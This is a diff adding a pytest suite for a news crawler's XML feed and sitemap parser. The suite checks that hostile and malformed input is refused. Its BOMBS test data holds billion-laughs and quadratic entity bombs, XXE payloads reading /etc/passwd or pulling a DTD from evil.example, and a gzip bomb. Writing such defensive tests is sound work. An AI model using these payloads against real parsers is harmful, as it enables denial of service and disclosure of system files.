@@ -1,0 +1,118 @@
+from __future__ import annotations
+
+import gzip
+import time
+
+import pytest
+
+from newscrawl.discovery import read_source
+from newscrawl.discovery.xml import LARGEST
+from newscrawl.errors import DiscoveryError
+from newscrawl.publishers.model import Feed, NewsSitemap, Section, Sitemap
+
+URL = "https://gazette.example/feed"
+
+
+def refusal_of(body: bytes, source=None) -> str:
+    with pytest.raises(DiscoveryError) as error:
+        read_source(source or Feed(URL), body, URL)
+    assert str(error.value).startswith(URL)
+    return str(error.value)
+
+
+LAUGHS = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
+BOMBS = {
+    "billion laughs": b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY l0 "ha">' + LAUGHS + b"]><rss>&l9;</rss>",
+    "quadratic": b'<!DOCTYPE rss [<!ENTITY a "' + b"a" * 100_000 + b'">]><rss>' + b"&a;" * 10_000 + b"</rss>",
+    "external entity": b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><title>&x;</title></rss>',
+    "parameter entity": b'<!DOCTYPE rss [<!ENTITY % x SYSTEM "http://evil.example/x.dtd"> %x;]><rss/>',
+    "behind a comment": b'<!-- <rss> --><!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>',
+    "in small letters of UTF-16": '<!DOCTYPE rss [<!ENTITY a "b">]><rss>&a;</rss>'.encode("utf-16"),
+}
+
+
+@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
+def test_xml_with_entities_of_its_own_is_refused_at_once(bomb):
+    began = time.perf_counter()
+    assert "may be an entity bomb" in refusal_of(bomb)
+    assert time.perf_counter() - began < 1
+
+
+def test_the_document_type_of_early_rss_is_no_bomb_and_is_not_fetched():
+    doctype = b'<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://127.0.0.1:9/rss-0.91.dtd">'
+    item = b"<item><title>One</title><link>http://gazette.example/1</link></item>"
+    found = read_source(Feed(URL), doctype + b'<rss version="0.91"><channel>' + item + b"</channel></rss>", URL)
+    assert [candidate.url for candidate in found.candidates] == ["http://gazette.example/1"]
+
+
+@pytest.mark.parametrize(
+    "page",
+    [
+        b"<!DOCTYPE html><html><head><title>Access &amp; denied</title></head><body>No.</body></html>",
+        b"\xef\xbb\xbf\n <!-- a --> <!-- b --><HTML><head><TITLE lang=en> Access &amp;\n denied</TITLE></head></HTML>",
+        b'<?xml version="1.0"?><!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0"><html><title>Access &amp; denied</title></html>',
+    ],
+)
+@pytest.mark.parametrize(
+    ("source", "promised"), [(Feed(URL), "a feed"), (NewsSitemap(URL), "a news sitemap"), (Sitemap(URL), "a sitemap")]
+)
+def test_html_where_a_feed_was_promised_is_named_with_its_title(source, promised, page):
+    refused = refusal_of(page, source)
+    assert refused == f"{URL}: {promised} was promised, and an HTML page came ('Access & denied')."
+
+
+@pytest.mark.parametrize(
+    ("body", "complaint"),
+    [
+        (b"", "the answer is empty"),
+        (b" \r\n\t", "the answer is empty"),
+        (b'{"error": "not found"}', "no XML: it begins"),
+        (b"%PDF-1.7\n", "no XML: it begins"),
+        (bytes(range(256)), "no XML: it begins"),
+        (b"<opml><body/></opml>", "an XML document <opml> came"),
+        (b"<", "cannot be read as XML"),
+        (gzip.compress(b"<urlset>" * 1000)[:-9], "the gzip file is broken"),
+        (b"\x1f\x8bnot gzip", "the gzip file is broken"),
+    ],
+)
+def test_what_is_no_feed_is_named(body, complaint):
+    assert complaint in refusal_of(body)
+
+
+def test_a_gzip_bomb_is_refused_when_it_passes_the_limit():
+    bomb = gzip.compress(b"<urlset>" + b" " * (LARGEST + 1))
+    assert len(bomb) < 100_000
+    assert "more than 50 MiB" in refusal_of(bomb, Sitemap(URL))
+
+
+def test_an_empty_section_page_is_named():
+    assert "the answer is empty" in refusal_of(b" \n", Section(URL))
+
+
+def test_comments_without_end_before_the_root_take_no_time():
+    began = time.perf_counter()
+    refusal_of(b"<!---->" * 9_000 + b"<!-")
+    assert time.perf_counter() - began < 1
+
+
+def test_deep_nesting_is_answered_and_survived():
+    refusal_of(b"<a>" * 200_000)
+    assert read_source(Section(URL), b"<div>" * 100_000 + b"<a href=/x>y</a>", URL).candidates == ()
+
+
+def test_stray_ampersands_and_names_of_html_are_forgiven_outside_cdata():
+    body = b"""<rss><channel><item><title>Salt &amp; Pepper&nbsp;& Sons&rsquo; caf&eacute;</title>
+        <link>http://gazette.example/1?a=1&b=2</link></item>
+        <item><title><![CDATA[Q&A]]></title><link><![CDATA[http://gazette.example/2?a=1&b=2]]></link></item>
+        </channel></rss>"""
+    found = read_source(Feed(URL), body, URL).candidates
+    assert [candidate.headline for candidate in found] == ["Salt & Pepper & Sons’ café", "Q&A"]
+    assert [candidate.url for candidate in found] == [
+        "http://gazette.example/1?a=1&b=2",
+        "http://gazette.example/2?a=1&b=2",
+    ]
+
+
+def test_a_feed_cut_short_gives_what_was_whole():
+    body = b"<rss><channel><item><link>http://gazette.example/1</link></item><item><link>http://gaz"
+    assert "http://gazette.example/1" in {candidate.url for candidate in read_source(Feed(URL), body, URL).candidates}
